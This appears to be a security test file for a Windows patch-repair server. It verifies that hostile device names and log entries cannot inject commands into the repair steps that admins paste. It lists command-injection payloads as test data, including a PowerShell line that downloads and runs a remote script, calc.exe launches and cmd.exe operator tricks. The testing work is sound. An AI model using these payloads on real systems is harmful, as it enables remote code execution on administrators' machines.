// Finding 1 (critical): device-supplied names must never become shell commands in the repair steps admins paste into an elevated prompt.
// Against the real server: hostile names in reports are refused (400, field named, nothing stored) and an uploaded log's
// hostile names are left out. Unit sweep: every remediation rule, rendered with each hostile value in each slot, keeps the
// value inside one quoted argument or withholds its commands.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { updateCatalog } from '../../protocol/catalog';
import type { Donor, RemediationStep } from '../../protocol/fleet-api';
import type { Report } from '../../protocol/report';
import { recommendRemediation, type FamilyEvidence, type RemediationContext, type RemediationSubject } from '../../server/fleet/remediation';
import { REMEDIATION_RULES } from '../../server/fleet/rules/remediation-rules';
import { spawnServer, type SpawnedServer } from '../server/spawn-server';

/** Every hostile value carries this, so a leak is found wherever it lands. */
const MARK = 'PWNED';
const HOSTILE_HOST = `WS-0102" & powershell -nop -c "iwr http://x/p.ps1|iex" & rem "${MARK}`;

const HOSTILE_VALUES: readonly string[] = [
  HOSTILE_HOST,
  `x" & calc.exe & rem "${MARK}`,
  `x"&${MARK}&"`,
  `x&${MARK}`,
  `x&&${MARK}`,
  `x|${MARK}`,
  `x||${MARK}`,
  `x<${MARK}`,
  `x>${MARK}.txt`,
  `x^&${MARK}`,
  `x^"${MARK}`,
  `%COMSPEC%${MARK}`,
  `%~dp0${MARK}`,
  `!${MARK}!`,
  `x\r\n${MARK}`,
  `x\n${MARK}`,
  `x\r${MARK}`,
  `x\t${MARK}`,
  `x\u0000${MARK}`,
  `x\u001a${MARK}`,
  `x\u2028${MARK}`,
  `\`${MARK}\``,
  `$(${MARK})`,
  `$env:${MARK}`,
  `x;${MARK}`,
  `x,${MARK}`,
  `(${MARK})`,
  `x\u201c & ${MARK} \u201d`,
  `x\uff02 & ${MARK} \uff02`,
  `x\u2033${MARK}`,
  `\\\\?\\C:\\Windows\\${MARK}`,
  `\\\\attacker\\share\\${MARK}`,
  `..\\..\\..\\System32\\${MARK}`,
  `C:\\${MARK}`,
  `${MARK}\\`,
  `x\\"${MARK}`,
  `-${MARK}`,
  `/${MARK}`,
  `${MARK} /grant Everyone:F`,
  MARK.repeat(3_000),
];

// ---- Unit sweep over every rule ------------------------------------------------------------------

type Slot = 'donorHost' | 'donorBuild' | 'family' | 'component' | 'file' | 'version' | 'arch' | 'fleetVersion' | 'kb' | 'hresult' | 'repairSource';

/** A value of the right kind for each slot: what the hostile value is compared with. */
const BENIGN: Record<Slot, string> = {
  donorHost: 'BANK-WS-0101',
  donorBuild: '19045.5131',
  family: 'dual_wpdmtp.inf',
  component: 'dual_wpdmtp.inf',
  file: 'WpdMtpUS.dll',
  version: '10.0.19041.746',
  arch: 'amd64',
  fleetVersion: '10.0.19041.1',
  kb: 'KB5036892',
  hresult: '0x8007000d',
  repairSource: 'wim:\\\\fs01\\images\\19045\\install.wim:1',
};
const SLOTS = Object.keys(BENIGN) as Slot[];
const catalog = updateCatalog();

/**
 * Three subjects that together reach every rule, built by hand (the report schema is bypassed, as
 * for data stored before it held these rules), with `value` in `slot`.
 */
function renderAll(slot: Slot, value: string): RemediationStep[][] {
  const at = (name: Slot) => (name === slot ? value : BENIGN[name]);
  const family: FamilyEvidence = {
    family: at('family'),
    arch: at('arch'),
    versions: [at('version')],
    files: [at('file')],
    // Only the component slot names a full key; otherwise the log shortened it (`…_none_*`) and the donor listing runs.
    components: slot === 'component' ? [`amd64_${value}_31bf3856ad364e35_${BENIGN.version}_none_8478465c1c781ea5`] : [],
    // 10.0.19041.3636 is in the update catalog (KB5031445): the shipping-update rule applies.
    fleetVersions: [at('fleetVersion'), '10.0.19041.3636'],
  };
  const donor: Donor = { deviceId: 'donor-1', hostname: at('donorHost'), osBuild: at('donorBuild'), lastSeenAt: '2024-11-20T00:00:00.000Z' };
  const failed = { kb: at('kb'), hresult: at('hresult'), blockedBy: [family.family] };
  const broken: RemediationSubject = {
    scope: 'device',
    osBuild: null,
    families: [family],
    failedKbs: [failed],
    pendingKbs: [at('kb')],
    sourceMissingEvidence: '0x800f081f (CBS_E_SOURCE_MISSING)',
    sourceMissing: { code: true, logLine: false, devices: null },
  };
  const withDonor: RemediationContext = { catalog, donors: new Map([[family.family, [donor]]]), repairSource: at('repairSource') };
  const plain: RemediationSubject = { ...broken, sourceMissingEvidence: null, sourceMissing: null };
  return [
    recommendRemediation(broken, withDonor),
    recommendRemediation(plain, { ...withDonor, donors: new Map() }),
    recommendRemediation(plain, { ...withDonor, donors: new Map(), repairSource: null }),
  ];
}

/**
 * Reads a command line as cmd.exe does: `"` opens and closes quoting, `^` escapes the next character
 * outside quotes. Returns the line with each quoted part's content replaced by `Q` (its skeleton: the
 * program, switches and operators cmd.exe acts on) and the quoted parts themselves.
 */
function cmdTokens(line: string): { skeleton: string; quoted: string[] } {
  let skeleton = '';
  const quoted: string[] = [];
  let inside: string | null = null;
  for (let i = 0; i < line.length; i++) {
    const character = line[i] as string;
    if (inside !== null) {
      if (character === '"') {
        quoted.push(inside);
        inside = null;
        skeleton += 'Q"';
      } else inside += character;
    } else if (character === '"') {
      inside = '';
      skeleton += '"';
    } else if (character === '^' && i + 1 < line.length) {
      skeleton += character + line[++i];
    } else skeleton += character;
  }
  if (inside !== null) quoted.push(inside);
  return { skeleton, quoted };
}

const WITHHELD = /^rem PatchLens withheld the commands of this step: [A-Za-z0-9 ,.()-]+$/;

/** What must hold for one step rendered with `value` in a slot, compared with the same step rendered with a benign value. */
function assertContained(step: RemediationStep, benign: RemediationStep | undefined, value: string, where: string): void {
  assert.ok(benign, `${where}: the hostile value changed which steps apply`);
  if (step.commands.length === 1 && WITHHELD.test(step.commands[0] ?? '')) return;
  for (const command of step.commands) {
    // Nothing cmd.exe reads inside quotes: no line break or control character, no variable expansion, no best-fit look-alikes.
    assert.match(command, /^[\x20-\x7e]*$/, `${where}: ${JSON.stringify(command)} holds a control or non-ASCII character`);
    assert.doesNotMatch(command, /[%!]/, `${where}: ${JSON.stringify(command)} holds % or !, which cmd.exe expands even inside quotes`);
    const { skeleton, quoted } = cmdTokens(command);
    assert.doesNotMatch(skeleton, new RegExp(MARK), `${where}: hostile text outside quotes in ${JSON.stringify(command)}`);
    // The value sits entirely within one quoted argument, never across two.
    for (const part of quoted) if (part.includes(MARK)) assert.ok(part.includes(value), `${where}: the value is split across arguments in ${JSON.stringify(command)}`);
  }
  // Outside its quotes the line is exactly what the rule renders for a benign value: no command, switch or operator was added.
  assert.deepEqual(step.commands.map((line) => cmdTokens(line).skeleton), benign.commands.map((line) => cmdTokens(line).skeleton), `${where}: the command structure changed`);
}

describe('every remediation rule against hostile values', () => {
  test('benign values reach every rule', () => {
    const rendered = new Set(renderAll('file', BENIGN.file).flat().map((step) => step.rule));
    assert.deepEqual([...rendered].sort(), REMEDIATION_RULES.map((rule) => rule.id).sort());
    for (const step of renderAll('file', BENIGN.file).flat()) assert.ok(!step.commands.some((line) => WITHHELD.test(line)), `${step.rule}: real values are not withheld`);
  });

  for (const slot of SLOTS) {
    test(`a hostile ${slot} stays inside one quoted argument of every command, or the commands are withheld`, () => {
      const benign = renderAll(slot, BENIGN[slot]);
      for (const value of HOSTILE_VALUES) {
        const hostile = renderAll(slot, value);
        hostile.forEach((steps, scenario) => {
          assert.equal(steps.length, benign[scenario]?.length, `${slot}=${JSON.stringify(value.slice(0, 60))}: same steps`);
          steps.forEach((step, index) => {
            const where = `${slot}=${JSON.stringify(value.slice(0, 60))}, scenario ${scenario}, ${step.rule}`;
            assertContained(step, benign[scenario]?.[index], value, where);
          });
        });
      }
    });
  }
});

// ---- Against the real server ---------------------------------------------------------------------

const ADMIN_PASSWORD = 'security test admin passphrase';
const fixture = (name: string): Report => JSON.parse(readFileSync(new URL(`../fixtures/reports/${name}.json`, import.meta.url), 'utf8')) as Report;
const CASE1_LOG = readFileSync(new URL('../fixtures/cases/case1-KB5043064/CBS.log', import.meta.url), 'latin1');

/** Every string anywhere in a JSON value, with its path. */
function strings(value: unknown, path = ''): [string, string][] {
  if (typeof value === 'string') return [[path, value]];
  if (Array.isArray(value)) return value.flatMap((item, index) => strings(item, `${path}.${index}`));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([key, item]) => strings(item, path ? `${path}.${key}` : key));
  return [];
}

describe('hostile names against the real server', { timeout: 180_000 }, () => {
  let dataDir: string;
  let server: SpawnedServer;
  let adminToken: string;
  let secret: string;

  const api = (path: string, init: RequestInit & { token?: string } = {}) =>
    fetch(`${server.url}/api/v1${path}`, {
      ...init,
      headers: { ...(init.body !== undefined && typeof init.body === 'string' ? { 'Content-Type': 'application/json' } : {}), ...(init.token ? { Authorization: `Bearer ${init.token}` } : {}), ...init.headers },
    });
  const keys = new Map<string, string>();
  /** Each device is enrolled once (its key kept), as an agent does. */
  const enroll = async (deviceId: string, hostname: string) => {
    const known = keys.get(deviceId);
    if (known) return known;
    const res = await api('/agents/enroll', { method: 'POST', body: JSON.stringify({ secret, deviceId, hostname }) });
    assert.equal(res.status, 201, await res.clone().text());
    const { deviceKey } = (await res.json()) as { deviceKey: string };
    keys.set(deviceId, deviceKey);
    return deviceKey;
  };
  const post = (key: string, report: unknown) => api('/reports', { method: 'POST', token: key, body: JSON.stringify(report) });
  const device = (id: string) => api(`/devices/${encodeURIComponent(id)}`, { token: adminToken });
  const remediationOf = async (id: string) => ((await (await device(id)).json()) as { remediation: RemediationStep[] }).remediation;
  /** The support-case 2 device and its healthy donor, honestly reported (whatever ran before). */
  const ingestCase2Fleet = async () => {
    for (const name of ['case2-device', 'healthy-donor']) {
      const report = fixture(name);
      const status = (await post(await enroll(report.device.id, report.device.hostname), report)).status;
      assert.ok(status === 202 || status === 200, `${name}: ${status}`);
    }
  };

  before(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'patchlens-injection-'));
    server = await spawnServer(dataDir, { PATCHLENS_ADMIN_PASSWORD: ADMIN_PASSWORD });
    const login = await fetch(`${server.url}/api/v1/auth/login`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ username: 'admin', password: ADMIN_PASSWORD }) });
    assert.equal(login.status, 200);
    const session = { Cookie: (login.headers.get('set-cookie') ?? '').split(';')[0]!, 'x-csrf-token': ((await login.json()) as { csrfToken: string }).csrfToken };
    const created = await api('/admin/tokens', { method: 'POST', headers: session, body: JSON.stringify({ name: 'security test', role: 'admin' }) });
    adminToken = ((await created.json()) as { token: string }).token;
    const enrollment = await api('/admin/enrollment-secrets', { method: 'POST', headers: session, body: JSON.stringify({ name: 'security test' }) });
    secret = ((await enrollment.json()) as { secret: string }).secret;
  });
  after(async () => {
    if (server) {
      server.child.kill('SIGTERM');
      await server.exited;
    }
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  test('a workstation gone bad cannot put its host name into the repair commands of the devices it would be donor for', async () => {
    // The healthy donor of case 2, enrolled under its real name, then reporting the hostile one.
    const donorKey = await enroll('bank-ws-0101', 'BANK-WS-0101');
    const donor = fixture('healthy-donor');
    const refused = await post(donorKey, { ...donor, device: { ...donor.device, hostname: HOSTILE_HOST } });
    assert.equal(refused.status, 400);
    const body = (await refused.json()) as { error: { code: string; details: { path: string }[] } };
    assert.equal(body.error.code, 'invalid_report');
    assert.ok(body.error.details.some((issue) => issue.path === 'device.hostname'), JSON.stringify(body.error.details));
    assert.equal((await device('bank-ws-0101')).status, 404, 'nothing of the refused report was stored');

    const broken = fixture('case2-device');
    assert.equal((await post(await enroll(broken.device.id, broken.device.hostname), broken)).status, 202);
    const commands = (await remediationOf(broken.device.id)).flatMap((step) => step.commands);
    assert.ok(commands.length > 0);
    for (const command of commands) assert.ok(!command.includes(MARK) && !command.includes('powershell'), command);

    // The honest report of the same donor still makes it the donor, its name quoted in the commands.
    assert.equal((await post(donorKey, donor)).status, 202);
    const copy = (await remediationOf(broken.device.id)).find((step) => step.rule === 'copy-from-donor');
    assert.ok(copy?.commands.some((command) => command.startsWith('copy /y "\\\\BANK-WS-0101\\C$\\Windows\\WinSxS\\')), JSON.stringify(copy?.commands));
  });

  test('a report with a hostile name in any named field is refused with 400 naming the field, and nothing is stored', async () => {
    const base = fixture('case2-device');
    const cases: [field: string, change: (report: Report) => void][] = [
      ['corruption.0.family', (report) => (report.corruption[0]!.family = `dual_wpdmtp.inf"&calc&rem"${MARK}`)],
      ['corruption.0.component', (report) => (report.corruption[0]!.component = `amd64_dual_wpdmtp.inf_31bf3856ad364e35_10.0.19041.746_none_8478465c1c781ea5" & ${MARK} & "`)],
      ['corruption.0.file', (report) => (report.corruption[0]!.file = `WpdMtpUS.dll" & ${MARK} & rem ".dll`)],
      ['corruption.0.file', (report) => (report.corruption[0]!.file = `..\\..\\System32\\${MARK}.dll`)],
      ['corruption.0.file', (report) => (report.corruption[0]!.file = `WpdMtpUS.dll\r\n${MARK}`)],
      ['corruption.0.version', (report) => (report.corruption[0]!.version = `10.0.19041.746_none_*" & ${MARK}`)],
      ['corruption.0.arch', (report) => (report.corruption[0]!.arch = `amd64&${MARK}`)],
      ['device.hostname', (report) => (report.device.hostname = `WS%COMSPEC%${MARK}`)],
      ['device.hostname', (report) => (report.device.hostname = `WS\uff02${MARK}`)],
    ];
    for (const [n, [field, change]] of cases.entries()) {
      const id = `hostile-names-${n}`;
      const key = await enroll(id, `HOSTILE-${n}`);
      const report = structuredClone(base);
      report.reportId = `hostile-names-report-${n}`;
      report.device = { ...report.device, id, hostname: `HOSTILE-${n}` };
      change(report);
      const res = await post(key, report);
      assert.equal(res.status, 400, `${field}: ${res.status}`);
      const { error } = (await res.json()) as { error: { code: string; details: { path: string }[] } };
      assert.equal(error.code, 'invalid_report');
      assert.ok(error.details.some((issue) => issue.path === field), `${field}: ${JSON.stringify(error.details)}`);
      assert.equal((await device(id)).status, 404, `${field}: nothing stored`);
    }
  });

  test('enrollment refuses a hostile host name, naming the field', async () => {
    const res = await api('/agents/enroll', { method: 'POST', body: JSON.stringify({ secret, deviceId: 'hostile-enroll', hostname: HOSTILE_HOST }) });
    assert.equal(res.status, 400);
    const { error } = (await res.json()) as { error: { details: { path: string }[] } };
    assert.ok(error.details.some((issue) => issue.path === 'hostname'), JSON.stringify(error.details));
  });

  test('an uploaded log whose "matching binary", file or component text is hostile yields no command with that text, and it is never stored', async () => {
    const hostile = CASE1_LOG
      // The "matching binary" capture takes any text up to " missing for component".
      .replace('Matching binary WpdMtpUS.dll missing', `Matching binary WpdMtpUS.dll" & powershell -nop -c "iwr http://x/p.ps1|iex" & rem "${MARK}.dll missing`)
      .replace('on file WpdMtpUS.dll with NTSTATUS', `on file ..\\..\\..\\System32\\${MARK}.dll with NTSTATUS`)
      .replace('missing for component dual_wvmbusr.inf,', `missing for component dual_wvmbusr.inf"&calc.exe&rem"${MARK},`);
    assert.equal(hostile.split(MARK).length - 1, 3, 'the three hostile lines are in the log');
    const upload = (query: string) =>
      api(`/analyze?${query}`, { method: 'POST', token: adminToken, headers: { 'Content-Type': 'application/octet-stream' }, body: Buffer.from(hostile, 'latin1') });
    const leaks = (commands: string[]) => commands.filter((command) => command.includes(MARK) || command.includes('powershell') || command.includes('calc'));
    const namesWithMark = (corruption: unknown) => strings(corruption).filter(([path, value]) => !/\.evidence\.\d+$/.test(path) && value.includes(MARK));

    // Attached to the case 2 device (build 19045), the log's files get the fleet donor's copy commands.
    await ingestCase2Fleet();
    const attached = await upload('name=CBS.log&deviceId=bank-ws-2231');
    assert.equal(attached.status, 200, await attached.clone().text());
    const stored = (await (await device('bank-ws-2231')).json()) as { corruption: unknown[]; remediation: RemediationStep[] };
    assert.ok(stored.remediation.some((step) => step.rule === 'copy-from-donor'), 'the donor copy step, whose commands name WinSxS files, is offered');
    assert.deepEqual(leaks(stored.remediation.flatMap((step) => step.commands)), []);
    assert.deepEqual(namesWithMark(stored.corruption), [], 'no hostile name was stored');

    const analyzed = await upload('name=CBS.log');
    assert.equal(analyzed.status, 200, await analyzed.clone().text());
    const result = (await analyzed.json()) as { parse: { warnings?: string[] }; detail: { corruption: { evidence: string[] }[]; remediation: RemediationStep[] } };
    assert.ok(result.detail.remediation.length > 0, 'the log still yields repair steps');
    assert.deepEqual(leaks(result.detail.remediation.flatMap((step) => step.commands)), []);
    // Names are left out with a warning; the raw evidence lines stay as the log wrote them (display text, never a command input).
    assert.deepEqual(namesWithMark(result.detail.corruption), []);
    assert.ok(result.detail.corruption.some((item) => item.evidence.some((line) => line.includes(MARK))), 'evidence is kept verbatim');
    assert.ok(result.parse.warnings?.some((warning) => /file names? (was|were) left out/.test(warning)), JSON.stringify(result.parse.warnings));
    assert.ok(result.parse.warnings?.some((warning) => /family names? (was|were) left out/.test(warning)), JSON.stringify(result.parse.warnings));
  });
});
